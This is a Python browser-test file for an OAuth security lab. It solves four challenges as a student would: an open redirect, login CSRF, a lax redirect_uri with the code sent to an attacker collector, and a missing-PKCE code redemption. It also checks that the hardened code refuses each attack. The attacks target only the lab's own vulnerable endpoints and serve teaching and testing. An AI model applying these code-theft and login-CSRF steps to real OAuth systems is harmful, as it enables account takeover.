"""The OAuth lab's and the provider's challenges, solved as a student would: the challenge page,
the exploit server, the victim bot (alice, signed in at the provider), DevTools and curl.

Each visit of the victim bot drives a real Chromium for a few seconds, so each challenge has one
solving test and at most one near miss here; what needs no victim is in test_oauth_challenges.py.
"""

import http.server
import re
import threading
from urllib.parse import quote, urlencode, urlsplit

import pytest
import requests
from playwright.sync_api import expect

from tests.challenges.student import VISIT_TIMEOUT, challenge, send_the_victim, status, stored_exploit
from tests.oauth_flow import csrf_token

pytestmark = pytest.mark.browser

MOBILE = {"client_id": "authlab-notes-mobile", "redirect_uri": "com.authlab.notes:/oauth2redirect"}


def hops(page):
    return page.text_content(".victim-hops")


def send_to_the_real_code(page):
    page.click("text=Send the same attack to the real code")
    return page.text_content("#real")


def bobs_naive_callback(page, live):
    """Start the naive sign-in as bob; the provider's 302 to the callback, read as DevTools' network log shows it."""
    page.goto(f"{live.app_url}/vulnerable/oauth/login")
    page.fill("#username", "bob")
    page.fill("#password", "thebuilder")
    page.click("button[type=submit]")
    with page.expect_response(lambda r: r.status == 302 and "code=" in (r.headers.get("location") or "")) as seen:
        page.click("button[name=approve]")
    return seen.value.headers["location"]


def lax_authorize_link(live, redirect_uri):
    params = {
        "response_type": "code",
        "client_id": "authlab-app",
        "scope": "openid profile",
        "redirect_uri": redirect_uri,
    }
    return f"{live.provider_url}/naive/authorize?{urlencode(params)}"


def userinfo_trick(live, path):
    """The app's origin, then `@`: to the browser, a user name before the attacker's host."""
    return f"{live.app_url}@{urlsplit(live.attacker_url).netloc}{path}"


# --- oauth-open-redirect -----------------------------------------------------------------------


def test_oauth_open_redirect_is_solved_by_a_next_that_names_the_attackers_site(live, page):
    challenge(page, live, "oauth-open-redirect")
    send_the_victim(page, f"{live.app_url}/vulnerable/oauth/login?next={quote(live.attacker_url + '/', safe='')}")
    assert re.search(
        r"GET \S+/vulnerable/oauth/callback\?code=\S+\s*302\s*Location: " + re.escape(live.attacker_url), hops(page)
    )
    assert status(page).startswith("Solved")
    real = send_to_the_real_code(page)
    assert "The real app answered 302: refused" in real and "it was dropped" in real
    page.click("#real a:has-text('is_safe_redirect')")
    expect(page.locator("body")).to_contain_text("def is_safe_redirect")


def test_oauth_open_redirect_stays_unsolved_when_next_stays_on_the_app(live, page):
    challenge(page, live, "oauth-open-redirect")
    send_the_victim(page, f"{live.app_url}/vulnerable/oauth/login?next=%2Fvulnerable%2Foauth%2Fprotected")
    assert re.search(r"/vulnerable/oauth/callback\?code=\S+\s*302\s*Location: /vulnerable/oauth/protected", hops(page))
    assert status(page).startswith("Not solved")


def test_lab_1_the_naive_redirect_takes_the_victims_browser_to_no_other_address(live, page):
    """Playwright's route sees only a redirect chain's first request: the victim's fence must stop the rest."""
    hits = []

    class Elsewhere(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802  (http.server's name)
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Elsewhere)  # a service on the LAN, or this machine
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        elsewhere = f"http://127.0.0.1:{server.server_port}/router-admin"
        challenge(page, live, "oauth-open-redirect")
        send_the_victim(page, f"{live.app_url}/vulnerable/oauth/login?next={quote(elsewhere, safe='')}")
        assert f"Location: {elsewhere}" in hops(page)  # the naive callback did send her there...
        assert hits == []  # ...and her browser never arrived
    finally:
        server.shutdown()
        server.server_close()


# --- oauth-login-csrf --------------------------------------------------------------------------


def test_oauth_login_csrf_is_solved_by_a_page_that_opens_bobs_callback_in_her_browser(live, page):
    callback = bobs_naive_callback(page, live)
    exploit = stored_exploit(page, live, f"<script>location = {callback!r}</script>")
    challenge(page, live, "oauth-login-csrf")
    send_the_victim(page, exploit)
    assert status(page).startswith("Solved")
    real = send_to_the_real_code(page)
    assert "The real app answered 400: refused" in real and "No sign-in was started in this browser session" in real


def test_oauth_login_csrf_stays_unsolved_when_she_signs_in_through_the_naive_client_herself(live, page):
    exploit = stored_exploit(page, live, f"<script>location = '{live.app_url}/vulnerable/oauth/login'</script>")
    challenge(page, live, "oauth-login-csrf")
    send_the_victim(page, exploit)
    # She went through the naive callback, with her own code: the naive client believes alice.
    assert re.search(r"GET \S+/vulnerable/oauth/callback\?code=\S+\s*302", hops(page))
    assert status(page).startswith("Not solved")


# --- provider-lax-redirect-uri -----------------------------------------------------------------


def test_provider_lax_redirect_uri_is_solved_by_a_code_read_off_the_collector(live, page):
    exploit = stored_exploit(page, live, "<p>nothing to see</p>")
    exploit_id = exploit.rsplit("/", 1)[1]
    challenge(page, live, "provider-lax-redirect-uri")
    send_the_victim(page, lax_authorize_link(live, userinfo_trick(live, f"/collect/{exploit_id}")))
    # The collector's log, in the exploit server's editor.
    page.goto(f"{live.attacker_url}/exploit?id={exploit_id}")
    code = re.search(r"code=([A-Za-z0-9_-]+)", page.text_content("body")).group(1)
    page.goto(f"{live.app_url}/vulnerable/oauth/callback?code={code}")
    assert page.request.get(f"{live.app_url}/vulnerable/oauth/protected").json()["user"] == "alice"
    challenge(page, live, "provider-lax-redirect-uri")
    assert status(page).startswith("Solved")
    real = send_to_the_real_code(page)
    assert "The real app answered 400: refused" in real and "No redirect: the browser stays at the provider" in real
    page.click("#real a:has-text('Client.check_redirect_uri')")
    expect(page.locator("body")).to_contain_text("def check_redirect_uri")


def test_provider_lax_redirect_uri_stays_unsolved_with_her_code_from_the_registered_callback(live, page):
    challenge(page, live, "provider-lax-redirect-uri")
    send_the_victim(page, lax_authorize_link(live, f"{live.app_url}/vulnerable/oauth/callback"))
    # Her code went where it belongs; read off the hops and replayed here, it was never stolen.
    code = re.search(r"callback\?code=([A-Za-z0-9_-]+)", hops(page)).group(1)
    page.goto(f"{live.app_url}/vulnerable/oauth/callback?code={code}")
    assert page.request.get(f"{live.app_url}/vulnerable/oauth/protected").json()["user"] == "alice"
    challenge(page, live, "provider-lax-redirect-uri")
    assert status(page).startswith("Not solved")


# --- provider-no-pkce --------------------------------------------------------------------------


def caught_code(text):
    return re.search(re.escape(MOBILE["redirect_uri"]) + r"\?code=([A-Za-z0-9_-]+)", text).group(1)


def redeem_without_verifier(http, live, code):
    """The naive /token, as the notes app (a public client): its id, the code, no secret, no verifier."""
    form = {"grant_type": "authorization_code", "code": code, **MOBILE}
    return http.post(f"{live.provider_url}/naive/token", data=form, timeout=10)


def test_provider_no_pkce_is_solved_by_redeeming_the_caught_code_and_signing_in_to_the_backend(live, page, monkeypatch):
    monkeypatch.setitem(live.app.config, "SPA_CLIENT_ID", "authlab-spa")  # as the provider hands it over
    challenge(page, live, "provider-no-pkce")
    send_the_victim(page)
    code = caught_code(hops(page))
    tokens = page.request.post(
        f"{live.provider_url}/naive/token", form={"grant_type": "authorization_code", "code": code, **MOBILE}
    ).json()
    # DevTools, on the app's page: the backend is the app's, so the lab_player cookie goes along.
    answer = page.evaluate(
        """token => fetch("/vulnerable/oauth/mobile/signin", {method: "POST",
             headers: {"Content-Type": "application/json"}, body: JSON.stringify({id_token: token})})
           .then(r => r.json())""",
        tokens["id_token"],
    )
    assert answer["user"] == "alice"
    challenge(page, live, "provider-no-pkce")
    assert status(page).startswith("Solved")
    real = send_to_the_real_code(page)
    assert "The real app answered 400: refused" in real and "Missing 'code_verifier'" in real
    assert "PKCE is required" in real


def test_provider_no_pkce_is_solved_from_plain_http_like_curl(live):
    with requests.Session() as student:
        curl_solves_no_pkce(student, live)


def curl_solves_no_pkce(student, live):
    page_url = f"{live.app_url}/challenges/provider-no-pkce"
    token = csrf_token(student.get(page_url, timeout=10).text)
    visit = student.post(f"{page_url}/victim", data={"csrf_token": token}, timeout=VISIT_TIMEOUT / 1000)
    tokens = redeem_without_verifier(requests, live, caught_code(visit.text)).json()
    answer = student.post(f"{live.app_url}/vulnerable/oauth/mobile/signin", json={"id_token": tokens["id_token"]})
    assert answer.json()["user"] == "alice"
    assert answer.headers["X-Lab-Challenge-Solved"] == "provider-no-pkce"
    assert "Solved" in student.get(page_url, timeout=10).text
